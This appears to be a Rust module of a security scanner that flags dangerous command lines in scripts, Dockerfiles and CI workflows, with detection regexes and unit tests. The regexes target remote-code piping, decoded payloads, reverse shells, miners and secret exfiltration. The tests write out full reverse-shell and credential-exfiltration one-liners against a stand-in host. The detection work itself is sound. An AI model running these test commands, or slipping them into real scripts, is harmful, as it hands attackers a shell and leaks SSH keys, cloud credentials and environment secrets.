//! Command lines in scripts of shells, in pipelines and in images: what they fetch and run, and what they send away.
//!
//! Read line by line, without comments and without what is only printed; a line that ends with `\` goes on.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use crate::change::{Source, ending};
use crate::finding::{Category, Confidence, Gate, Severity, Verdict};
use crate::sighting::Sighting;

/// The longest command line that is looked at, in bytes.
const LINE_MAX: usize = 16 * 1024;

/// What to look for, and what to say about it.
struct Rule {
    id: &'static str,
    category: Category,
    verdict: Verdict,
    form: LazyLock<Option<Regex>>,
    message: &'static str,
    remedy: &'static str,
}

macro_rules! rule {
    ($id:literal, $category:ident, $verdict:ident, $form:expr, $message:literal, $remedy:literal) => {
        Rule {
            id: $id,
            category: Category::$category,
            verdict: Verdict::$verdict,
            form: LazyLock::new(|| Regex::new(concat!("(?i)", $form)).ok()),
            message: $message,
            remedy: $remedy,
        }
    };
}

/// Texts of which one is in every line that a rule finds.
const HINTS: &[&str] = &[
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-",
    "base64",
    "xxd",
    " -e",
    "/dev/",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "stratum+",
    "xmrig",
    "minerd",
    "cryptonight",
];

static HINTED: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::builder().ascii_case_insensitive(true).build(HINTS).ok());

static RULES: [Rule; 5] = [
    rule!(
        "backdoor.remote-code",
        Backdoor,
        Review,
        concat!(
            r"\b(?:curl|wget|iwr|irm|invoke-webrequest)\b[^|;]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?",
            r"(?:(?:ba|z|da|k)?sh\b(?:\s+-)?|iex\b|(?:node|python3?|perl|ruby|php)\s*-?\s*(?:$|[;&|]))",
            r#"|(?:\b(?:ba|z)?sh\s+(?:-c\s+)?|\beval\s+|\bsource\s+|(?:^|[\s;&])\.\s+)["']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b"#,
        ),
        "A program is fetched from another computer and run at once, unseen. Whoever controls that computer controls \
         this one.",
        "Ship the program with the application, or fetch a fixed version and compare its checksum before it runs."
    ),
    rule!(
        "obfuscated.decoded-code",
        Obfuscated,
        Block,
        concat!(
            r"\bbase64\s+(?:-d|--decode)\b[^|;]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:(?:ba|z|da|k)?sh|node|python3?|perl)\b",
            r#"|\b(?:eval|sh\s+-c|bash\s+-c)\s+["']?(?:\$\(|`)[^)`]*\bbase64\s+(?:-d|--decode)\b"#,
            r"|\bxxd\s+-r\b[^|;]*\|\s*(?:\S*/)?(?:ba|z|da|k)?sh\b",
            r"|\bpowershell\b.*\s-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{40}",
        ),
        "A text that was made unreadable is made readable again and run as a program. Nobody who looks at this \
         change can see what it does.",
        "Write the program out."
    ),
    rule!(
        "backdoor.remote-shell",
        Backdoor,
        Block,
        concat!(
            r"sh\s+-i\b.*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+.*\b(?:ba|z)?sh\b|\bexec\s+\d+<>\s*/dev/tcp/",
            r"|\b(?:nc|ncat|netcat)\b[^|;]*\s-[a-z]*[ec]\s*\S*\b(?:ba|z|c)?(?:sh|md)\b",
            r"|\bmkfifo\b.*\|\s*(?:nc|ncat|netcat)\b|\bsocat\b.*\bexec:\S*sh\b",
        ),
        "A command shell is connected to the network. Whoever is at the other end can run any program on this computer.",
        "Take it out."
    ),
    rule!(
        "backdoor.miner",
        Backdoor,
        Block,
        r"\bstratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcryptonight\b",
        "This is how programs look that use a computer to make cryptocurrency for somebody else. It costs you \
         computing time and money, and it is never there by accident.",
        "Take it out."
    ),
    rule!(
        "exfil.send",
        Exfil,
        Block,
        concat!(
            r"\b(?:env|printenv|cat\s+\S*(?:\.ssh/|\.aws/credentials|id_rsa|id_ed25519|\.npmrc|\.netrc|/etc/passwd)\S*)",
            r"\s*\|(?:.*\|)?\s*(?:curl|wget|nc|ncat)\b",
            r"|\b(?:curl|wget)\b.*(?:\$\(\s*(?:env|printenv)\b|`(?:env|printenv)\b|@\S*(?:\.ssh/|\.aws/credentials|id_rsa|id_ed25519|\.npmrc|\.netrc))",
        ),
        "Keys, or the whole environment with all its passwords, are sent to another computer. What leaves this way \
         cannot be called back, and it opens further doors.",
        "Take it out, and change every key and password that it could read."
    ),
];

/// Everything of this kind in the file.
pub(crate) fn look(source: Source<'_>) -> Vec<Sighting> {
    if !holds_commands(source) {
        return Vec::new();
    }
    let hinted =
        |line: &Range<usize>| HINTED.as_ref().is_some_and(|it| it.is_match(&source.text[line.clone()]));
    lines(source.text).filter(hinted).flat_map(|place| in_line(source.text, &place)).collect()
}

/// Whether a shell runs what is in the file, or parts of it.
fn holds_commands(source: Source<'_>) -> bool {
    let name = source.path.rsplit('/').next().unwrap_or(source.path);
    let is_named =
        ["Dockerfile", "Containerfile", "Makefile", "Jenkinsfile", "Procfile", "Justfile", "justfile"]
            .iter()
            .any(|it| name.starts_with(it));
    let endings =
        ["sh", "bash", "zsh", "ksh", "ps1", "psm1", "bat", "cmd", "yml", "yaml", "dockerfile", "mk"];
    let first = source.text.lines().next().unwrap_or_default();
    is_named
        || endings.contains(&ending(source.path).as_str())
        || first.starts_with("#!") && first.trim_end().ends_with("sh")
}

/// The command lines of a text; those that go on are one.
fn lines(text: &str) -> impl Iterator<Item = Range<usize>> {
    let mut start = 0;
    let mut at = 0;
    text.split_inclusive('\n').filter_map(move |line| {
        at += line.len();
        if line.trim_end().ends_with('\\') && at < text.len() {
            return None;
        }
        Some(std::mem::replace(&mut start, at)..at)
    })
}

fn in_line(text: &str, place: &Range<usize>) -> Vec<Sighting> {
    let line = &text[place.clone()];
    let trimmed = line.trim();
    if is_said(trimmed) || line.len() > LINE_MAX {
        return Vec::new();
    }
    let start = place.start + line.find(trimmed).unwrap_or_default();
    let joined = trimmed.replace("\\\r\n", "  ").replace("\\\n", "  ");
    let found = RULES.iter().filter(|rule| rule.form.as_ref().is_some_and(|it| it.is_match(&joined)));
    found.map(|rule| sighting(rule, start..start + trimmed.len(), &joined)).collect()
}

/// Whether a line is a comment or a name, or only prints what it says.
fn is_said(line: &str) -> bool {
    let bare = line.trim_start_matches(['-', '@', ' ', '"', '\'']);
    let begins = |words: &[&str]| {
        words.iter().any(|it| bare.get(..it.len()).is_some_and(|start| start.eq_ignore_ascii_case(it)))
    };
    // What is handed on to another command may be run.
    let outside: String = bare.split(['"', '\'']).step_by(2).collect();
    begins(&["#", "//", "description:", "name:", "rem ", "::"])
        || begins(&["echo ", "printf ", "write-host "]) && !outside.contains(['|', ';', '&'])
}

fn sighting(rule: &Rule, place: Range<usize>, line: &str) -> Sighting {
    let is_sure = rule.verdict == Verdict::Block;
    Sighting {
        gate: Gate::Security,
        rule: rule.id,
        category: rule.category,
        verdict: rule.verdict,
        severity: if is_sure { Severity::Critical } else { Severity::High },
        confidence: if is_sure { Confidence::High } else { Confidence::Medium },
        place,
        via: Vec::new(),
        message: rule.message.to_owned(),
        remedy: rule.remedy.to_owned(),
        identity: line.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(path: &str, text: &str, expected: &[&str]) {
        let found: Vec<_> = look(Source { path, text }).iter().map(|it| it.rule).collect();
        assert_eq!(found, expected, "{path}: {text}");
    }

    #[test]
    fn every_expression_compiles() {
        assert!(RULES.iter().all(|it| it.form.is_some()) && HINTED.is_some());
    }

    #[test]
    fn commands_that_do_harm_are_found() {
        for (line, expected) in [
            ("curl -fsSL https://a.example/i.sh | sh", "backdoor.remote-code"),
            ("wget -qO- https://a.example/i.sh | sudo -E bash -", "backdoor.remote-code"),
            ("curl -s https://a.example/i.js \\\n  | node", "backdoor.remote-code"),
            ("bash <(curl -s https://a.example/i.sh)", "backdoor.remote-code"),
            ("eval \"$(curl -s https://a.example/i.sh)\"", "backdoor.remote-code"),
            ("sh -c \"$(wget -qO- https://a.example/i.sh)\"", "backdoor.remote-code"),
            ("echo aWQ= > a; base64 -d a | bash", "obfuscated.decoded-code"),
            ("eval $(cat a | base64 --decode)", "obfuscated.decoded-code"),
            ("bash -i >& /dev/tcp/a.example/4444 0>&1", "backdoor.remote-shell"),
            ("nc -e /bin/sh a.example 4444", "backdoor.remote-shell"),
            ("rm f; mkfifo f; cat f | sh -i 2>&1 | nc a.example 4444 > f", "backdoor.remote-shell"),
            ("./miner -o stratum+tcp://pool.example:3333", "backdoor.miner"),
            ("env | curl -d @- https://a.example", "exfil.send"),
            ("cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.example", "exfil.send"),
            ("curl -F f=@$HOME/.aws/credentials https://a.example", "exfil.send"),
            ("curl https://a.example/?e=$(printenv)", "exfil.send"),
        ] {
            check("deploy/a.sh", &format!("set -e\n{line}\n"), &[expected]);
            check("Dockerfile", &format!("FROM a\nRUN {line}\n"), &[expected]);
            check(".github/workflows/a.yml", &format!("steps:\n  - run: {line}\n"), &[expected]);
        }
    }

    #[test]
    fn commands_of_every_day_are_silent() {
        for line in [
            "curl -fsSL https://a.example/data.json | jq .",
            "curl -s https://a.example/data.json | python3 -m json.tool",
            "curl -s https://a.example | node -e \"process.stdin.pipe(process.stdout)\"",
            "# curl https://a.example/i.sh | sh",
            "echo \"run curl https://a.example/i.sh | sh\"",
            "curl -o a.tgz https://a.example/a.tgz && sha256sum -c a.sum && tar xf a.tgz",
            "base64 -d a > b; sh build.sh",
            "env | sort",
            "nc -z localhost 5432",
            "curl -f http://localhost:3000/health || exit 1",
            "cat a | ssh host",
        ] {
            check("deploy/a.sh", &format!("{line}\n"), &[]);
        }
        check("docs/a.md", "curl https://a.example/i.sh | sh\n", &[]);
    }
}
